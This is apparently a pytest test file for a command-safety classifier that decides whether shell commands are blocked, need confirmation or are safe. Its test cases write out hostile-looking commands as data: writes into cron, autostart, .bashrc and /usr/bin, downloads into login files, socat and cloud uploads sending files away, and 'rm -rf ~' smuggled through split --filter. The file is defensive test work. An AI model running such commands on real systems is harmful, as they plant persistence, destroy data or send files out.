"""Where commands write, download and send files: each form of naming a destination is judged as a redirection
there (README "Security model"): an operating system file or device is blocked, a system folder or a login or
autostart file asks, a download into one is blocked, and sending a file to another computer asks."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from contop.security.decision import GateContext
from contop.security.gate import classify_command
from contop.security.paths import use_resolver
from tests.security.corpus_support import posix_context

LOGIN = "changes what runs automatically at login or boot"
SYSTEM_FOLDER = "writes into a system folder"
OS_FILES = "operating system files"
DOWNLOADED = "download"  # 'installs a downloaded file…' and 'installs a hidden or downloaded program…'
SENDS = "sends a file from this computer to another one"


def judge(command: str, ctx: GateContext | None = None) -> tuple[str, str]:
    with use_resolver(None):  # fictional paths under /home/u: the disk is not asked
        decision = classify_command(command, ctx or posix_context())
    return decision.verdict, decision.reason


@pytest.mark.parametrize(
    ("command", "expected", "why"),
    [
        # a folder as the destination: the file lands inside it, under its own name
        ("cp x /usr/bin/", "block", OS_FILES),
        ("cp x /usr/bin", "block", OS_FILES),  # a system tree can only be a folder
        ("cp x /etc/", "confirm", SYSTEM_FOLDER),
        ("cp a b /etc/cron.d", "confirm", LOGIN),
        ("cp -t /etc/systemd/system x.service", "confirm", LOGIN),
        ("cp -vt /usr/bin x", "block", OS_FILES),
        ("cp --target-directory=/etc/cron.d x", "confirm", LOGIN),
        ("cp --target-directory /etc/cron.d x", "confirm", LOGIN),
        ("cp --t=/usr/bin x", "block", OS_FILES),  # getopt takes any unambiguous start of a long option
        ("install -t /usr/bin x", "block", OS_FILES),
        ("install -m 755 tool /usr/local/bin/", "confirm", SYSTEM_FOLDER),
        ("install -d ~/.config/autostart", "confirm", LOGIN),
        ("mv -t ~/.config/autostart x.desktop", "confirm", LOGIN),
        ("mv x ~/.bashrc", "confirm", LOGIN),
        ("ln -t /etc/cron.d x", "confirm", LOGIN),
        ("ln -s x .git/hooks/pre-commit", "confirm", LOGIN),
        ("ln -s ../../x .git/hooks/", "confirm", LOGIN),
        ("ln -s /tmp/tool /usr/bin/", "block", OS_FILES),
        ("rsync x /etc/cron.d/x", "confirm", LOGIN),
        ("rsync -a src/ ~/.config/autostart/", "confirm", LOGIN),
        ("rsync -a --exclude .git autostart ~/.config/", "confirm", LOGIN),
        ("rsync --log-file=/etc/cron.d/x a b", "confirm", LOGIN),
        # find's actions that print into a file
        ("find . -fprintf /etc/cron.d/x '%p'", "confirm", LOGIN),
        ("find . -fprintf ~/.bashrc x", "confirm", LOGIN),
        ("find . -fls ~/.profile", "confirm", LOGIN),
        ("find . -fprint ~/.profile", "confirm", LOGIN),
        ("find . -fprint0 /usr/bin/x", "block", OS_FILES),
        # archives unpacked into a folder
        ("tar xf a.tar -C ~/.config/autostart", "confirm", LOGIN),
        ("tar xfC a.tar ~/.config/autostart", "confirm", LOGIN),
        ("tar -xf a.tar --directory=/usr/bin", "block", OS_FILES),
        ("unzip a.zip -d ~/.config/autostart", "confirm", LOGIN),
        ("7z x a.7z -o/etc/cron.d", "confirm", LOGIN),
        # programs that write the file an option, an operand or their script names
        ("awk '{print > \"/home/u/.bashrc\"}' x", "confirm", LOGIN),
        ("awk '{print $0 >> \"/etc/cron.d/x\"}' x", "confirm", LOGIN),
        ("awk -v f=/etc/cron.d/x '{print > f}' x", "confirm", LOGIN),
        ("patch ~/.bashrc p", "confirm", LOGIN),
        ("patch -o /usr/bin/ls a p", "block", OS_FILES),
        ("patch -d ~ -r .profile a p", "confirm", LOGIN),
        ("openssl enc -in x -out ~/.bashrc", "block", DOWNLOADED),  # 'enc' in the line: a decoded payload
        ("openssl req -new -key k.pem -out=/etc/cron.d/x", "confirm", LOGIN),
        ("socat - FILE:/home/u/.bashrc,append", "block", DOWNLOADED),  # socat in the line, as for '>'
        ("socat -u - OPEN:/usr/bin/x,creat", "block", OS_FILES),
        ("ex -sc 'wq! /etc/cron.d/x' x", "confirm", ""),
        ("vim -Rc 'w /etc/cron.d/x' x", "confirm", LOGIN),
        ("split -b 1 x /etc/cron.d/x", "confirm", LOGIN),
        ("split -l 10 x /usr/bin/part", "block", OS_FILES),
        ("csplit -f /etc/cron.d/x f 1", "confirm", LOGIN),
        # downloads named by the URL, or put in a folder the line names
        ("wget -P /etc/cron.d https://e.com/x", "block", DOWNLOADED),
        ("wget --directory-prefix=/usr/bin https://e.com/x", "block", ""),
        ("wget -e dir_prefix=/etc/cron.d https://e.com/x", "block", DOWNLOADED),
        ("wget -r -P ~/.config/autostart https://e.com/", "block", DOWNLOADED),
        ("curl https://e.com/x --output-dir /etc/cron.d -O", "block", DOWNLOADED),
        ("curl https://e.com/.bashrc --output-dir ~ -O", "block", DOWNLOADED),
        ("curl -fsSLO https://e.com/.profile", "block", DOWNLOADED),
        ("curl -o x --output-dir /etc/cron.d https://e.com/y", "block", DOWNLOADED),
        ("curl -OJ --output-dir ~/.config/autostart https://e.com/get", "block", DOWNLOADED),
        ("curl -D ~/.bashrc https://e.com", "block", DOWNLOADED),
        ("scp host:x ~/.bashrc", "block", DOWNLOADED),
        ("aws s3 cp s3://b/x ~/.profile", "block", DOWNLOADED),
        # files sent to another computer
        ("rclone copy ~/Documents remote:", "confirm", SENDS),
        ("aws s3 cp a.txt s3://b/", "confirm", SENDS),  # one file sent away, as scp x host: asks
        ("aws s3 cp ~/Documents s3://x --recursive", "confirm", SENDS),
        ("aws s3 sync ./reports s3://x --profile prod", "confirm", SENDS),
        ("gsutil -m cp -r dir gs://b", "confirm", SENDS),
        ("az storage blob upload-batch -s ./site -d web", "confirm", SENDS),
        ("socat TCP:1.2.3.4:80 FILE:/tmp/data.txt", "confirm", SENDS),
        ("socat -u FILE:notes.txt TCP:1.2.3.4:80", "confirm", SENDS),
        ("socat TCP:1.2.3.4:80 FILE:/home/u/.profile", "block", DOWNLOADED),  # and it writes what comes back
        # the whole system
        ("killall5 -9", "confirm", "stops running programs"),
        ("ip link set eth0 down", "confirm", "changes network settings"),
        ("ip l s eth0 down", "confirm", "changes network settings"),
        ("ip -4 route del default", "confirm", "changes network settings"),
        ("ip -batch cmds.txt", "confirm", "batch file"),
        ("ifconfig eth0 down", "confirm", "changes network settings"),
        ("swapoff -a", "confirm", "swap"),
    ],
)
def test_the_destination_is_judged(command: str, expected: str, why: str) -> None:
    verdict, reason = judge(command)
    assert verdict == expected, reason
    assert why in reason


@pytest.mark.parametrize(
    "command",
    [
        "cp a.txt b/",
        "cp -r src/ build/",
        "cp config.example.yml config.yml",
        "cp -t out/ a.txt b.txt",
        "install -m 644 x build/x",
        "ln -s ../lib/x.py x.py",
        "tar xf a.tar -C build/",
        "tar xzf file.tar.gz",
        "unzip a.zip -d out",
        "7z x a.7z -oout",
        "find . -name '*.py'",
        "find . -type f -fprint list.txt",
        "wget https://e.com/file.tar.gz",
        "wget -P downloads https://e.com/file.tar.gz",
        "curl -O https://e.com/x",
        "curl -sSLO https://e.com/a/b/setup.tar.gz --output-dir downloads",
        "curl -H 'Accept: text/html' -O https://e.com/page.html",
        "rsync -a src/ dst/",
        "rsync -av -e ssh src/ backup/",
        "scp user@host:report.txt .",
        "aws s3 ls s3://b",
        "rclone copy remote:photos ./photos",
        "ip addr",
        "ip -br a",
        "ip a s",
        "ip route get 1.1.1.1",
        "ip -j link show",
        "ifconfig",
        "ifconfig eth0",
        "awk '{print $1}' f",
        "awk '{print ($1 > 3)}' f",
        "awk '{print \"a > b\"}' f",
        "awk '{print > \"out.txt\"}' f",
        "patch -p1 -i fix.diff",
        "patch --dry-run ~/.bashrc p",
        "openssl rand -out random.bin 32",
        "openssl req -new -x509 -keyout build/k -out=build/cert.crt",
        "split -l 100 data.csv part-",
        "socat -u TCP-LISTEN:8080 FILE:/tmp/out.txt",
        "socat - TCP:localhost:80",
    ],
)
def test_everyday_forms_stay_safe(command: str) -> None:
    verdict, reason = judge(command)
    assert verdict == "safe", reason


def test_commands_run_by_an_option_are_judged() -> None:
    assert judge("ip netns exec blue rm -rf ~")[0] == "block"
    assert judge("split --filter='rm -rf ~' x")[0] == "block"
    assert judge("split --filter='gzip > $FILE.gz' x") == (
        "confirm",
        "runs a command given in split's options (split --filter='gzip > $FILE.gz' x)",
    )


def test_awk_redirections_are_read_from_the_program_text() -> None:
    from contop.security.cmdtools import awk_outputs

    program = 'BEGIN { f = "/etc/cron.d/job" } { print "a > b" > f; printf("%s", $1) >> "log/" $2 ".txt" }'
    assert awk_outputs(program, {}) == [("/etc/cron.d/job", False), ("log/file.txt", True)]
    assert awk_outputs('{ if ($1 > 3) print $1 | "sort" }', {}) == []
    assert awk_outputs("{ print > out }", {"out": "/root/.profile"}) == [("/root/.profile", False)]


def _disk_context(home: Path) -> GateContext:
    return replace(posix_context(), home=str(home), cwd=str(home), state_dir=str(home / ".contop"))


def test_the_disk_says_whether_the_destination_is_a_folder(tmp_path: Path) -> None:
    # '~/.local/share/applications/NAME.desktop' starts with the desktop session; the folder itself is nothing
    apps = tmp_path / ".local" / "share" / "applications"
    apps.mkdir(parents=True)
    ctx = _disk_context(tmp_path)
    decision = classify_command("cp evil.desktop .local/share/applications", ctx)
    assert decision.verdict == "confirm" and LOGIN in decision.reason, decision
    # without the folder, cp makes a file named 'applications2': nothing starts it
    assert classify_command("cp evil.desktop .local/share/applications2", ctx).verdict == "safe"


def test_the_classify_command_judges_a_folder_destination(tmp_path: Path) -> None:
    root = str(Path(__file__).resolve().parents[2])  # the sources under test, wherever the package is installed from
    env = dict(os.environ, HOME=str(tmp_path), CONTOP_HOME=str(tmp_path / ".contop"), PYTHONPATH=root)
    out = subprocess.run(
        [sys.executable, "-m", "contop.cli.classify", "--json", "cp payload /usr/bin/"],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        timeout=60,
        check=True,
    )
    answer = json.loads(out.stdout)
    assert answer["decision"] == "block" and OS_FILES in answer["reason"], answer
